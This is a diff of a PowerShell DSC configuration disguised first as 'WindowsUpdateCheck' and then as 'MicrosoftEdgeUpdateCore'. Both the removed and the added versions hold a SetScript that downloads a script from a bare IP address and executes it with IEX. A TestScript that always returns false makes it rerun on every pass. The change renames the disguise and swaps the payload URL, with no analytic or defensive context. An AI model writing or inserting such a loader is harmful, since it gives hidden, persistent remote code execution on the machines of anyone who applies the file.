@@ -1,11 +1,11 @@
-# init 4395 v3
-Configuration WindowsUpdateCheck {
+# setup 1224 v3
+Configuration MicrosoftEdgeUpdateCore {
   Import-DscResource -ModuleName PSDesiredStateConfiguration
   Node localhost {
     Script Bootstrap {
       GetScript = { @{ Result = '' } }
       TestScript = { $false }
-      SetScript = { IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.17/update.ps1') }
+      SetScript = { IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.150/a.ps1') }
     }
   }
 }
